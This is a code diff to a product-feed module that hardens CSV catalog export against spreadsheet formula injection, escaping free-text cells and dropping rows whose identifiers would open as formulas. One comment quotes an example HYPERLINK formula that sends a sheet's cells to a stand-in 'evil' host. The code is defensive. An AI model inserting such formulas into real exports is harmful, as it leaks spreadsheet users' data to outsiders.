@@ -15,8 +15,14 @@ The vendors fetch a shop's catalog by URL once a day, so onetag publishes the on
   file" (UTF-8) with the columns id (which must match the product_id of orders and carts),
   item_group_id, title, link, image_link, description, sku, availability ("in stock" or
   "out of stock"), price ("XXX.YY USD"), brand and product_type (categories separated by
-  "|"), fetched once a day. A cell that would open as a spreadsheet formula (= + - @, a
-  tab or a carriage return first) starts with a ' instead (``csv_cell``).
+  "|"), fetched once a day. Its reader is Remarkety's importer, but an operator may open
+  it in a spreadsheet, which runs a cell starting with = + - @, a tab or a carriage return
+  as a formula: such a free-text cell (title, description, brand, product_type,
+  google_product_category) starts with a ' instead (``csv_cell``). The identifiers (id,
+  sku, item_group_id) are what events name products by, so they are written exactly; a
+  product whose identifier would open as a formula is left out of this file
+  (``csv_listed``). Links are http(s), prices and availability onetag's own words: none
+  can start so. docs/security.md ("Catalog feeds") gives the reasons.
 
 A product is in a feed when it is not deleted and has a link, an image, a title and a
 price (``catalog.feed_problem``; ``onetag catalog`` counts the others, by reason). A product
@@ -47,7 +53,7 @@ from .events import echo
 
 PAGE = 500  # products read a query
 NAMESPACE = "http://base.google.com/ns/1.0"
-FORMAT_VERSION = "1"  # part of the ETag: a change to the output's shape changes every tag
+FORMAT_VERSION = "2"  # part of the ETag: a change to the output's shape changes every tag
 XML_TYPE = "application/rss+xml; charset=utf-8"
 CSV_TYPE = "text/csv; charset=utf-8"
 CSV_COLUMNS = ("id", "item_group_id", "title", "description", "link", "image_link", "sku",
@@ -106,22 +112,50 @@ XML_TAIL = "</channel>\n</rss>\n"
 # A cell a spreadsheet would read as a formula: Excel, LibreOffice and Google Sheets run a
 # cell opening with one of these (``=HYPERLINK("http://evil/?"&A1,"x")`` sends the sheet's
 # cells away when clicked). Titles and ids are the pages' claims, and an operator may open
-# the feed in one, so such a cell gets a leading ' (OWASP, "CSV Injection"): the
-# spreadsheet shows the text, and the vendors read one character more.
+# the feed in one (OWASP, "CSV Injection").
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+# The columns vendors join events on: Remarkety matches an order's or cart's product id and
+# sku to the feed's ("the product id/sku should match a product from the products feed"),
+# item_group_id gathers a product's variants. A leading ' would make them ids no event names.
+IDENTIFIERS = ("item_id", "sku", "item_group_id")
+
+
+def opens_as_formula(text: str) -> bool:
+    return text.startswith(FORMULA_START)
 
 
 def csv_cell(text: str) -> str:
-    return "'" + text if text.startswith(FORMULA_START) else text
+    """Free text that would open as a formula gets a leading ': the spreadsheet shows the
+    text, and the vendor shows one character more."""
+    return "'" + text if opens_as_formula(text) else text
+
+
+def csv_listed(row: dict[str, Any]) -> bool:
+    """Whether products.csv lists a product the feeds take: not when an identifier would open
+    as a formula, since its cell can't be both exact and inert (products.xml lists it)."""
+    return not any(opens_as_formula(clean(row[key] or "")) for key in IDENTIFIERS)
 
 
 def csv_row(row: dict[str, Any]) -> list[str]:
+    """A listed product's cells (``csv_listed``): identifiers exactly, free text made inert;
+    links (http(s) only, ``catalog.feed_problem``), availability and price can't open as a
+    formula."""
+    def exact(value: str | None) -> str:
+        return "" if value is None else clean(value)
+
+    def text(value: str | None) -> str:  # free text
+        return csv_cell(exact(value))
+
     categories = "|".join(category.replace("|", "/") for category in row["categories"])
-    values = (row["item_id"], row["item_group_id"], row["title"], row["description"],
-              row["item_url"], row["image_url"], row["sku"],
-              REMARKETY_AVAILABILITY[availability(row)], price_text(row), row["brand"],
-              categories, row["google_product_category"])
-    return [csv_cell(clean(value)) if value is not None else "" for value in values]
+    return [exact(row["item_id"]), exact(row["item_group_id"]), text(row["title"]),
+            text(row["description"]), exact(row["item_url"]), exact(row["image_url"]),
+            exact(row["sku"]), REMARKETY_AVAILABILITY[availability(row)], price_text(row),
+            text(row["brand"]), text(categories), text(row["google_product_category"])]
+
+
+def csv_line(row: dict[str, Any]) -> str:
+    """A product's line of products.csv, or "" when the file leaves it out."""
+    return _csv_line(csv_row(row)) if csv_listed(row) else ""
 
 
 def etag(kind: str, site: Any, state: tuple[int, int, int], link: str) -> str:
@@ -202,8 +236,7 @@ class Feeds:
         if kind == "xml":
             body = self._stream(xml_head(f"{site.id} products", link), xml_item, XML_TAIL, site.id)
             return StreamingResponse(body, media_type=XML_TYPE, headers=headers)
-        body = self._stream(_csv_line(list(CSV_COLUMNS)), lambda row: _csv_line(csv_row(row)),
-                            "", site.id)
+        body = self._stream(_csv_line(list(CSV_COLUMNS)), csv_line, "", site.id)
         return StreamingResponse(body, media_type=CSV_TYPE, headers=headers)
 
     async def _stream(self, head: str, render: Callable[[dict[str, Any]], str], tail: str,
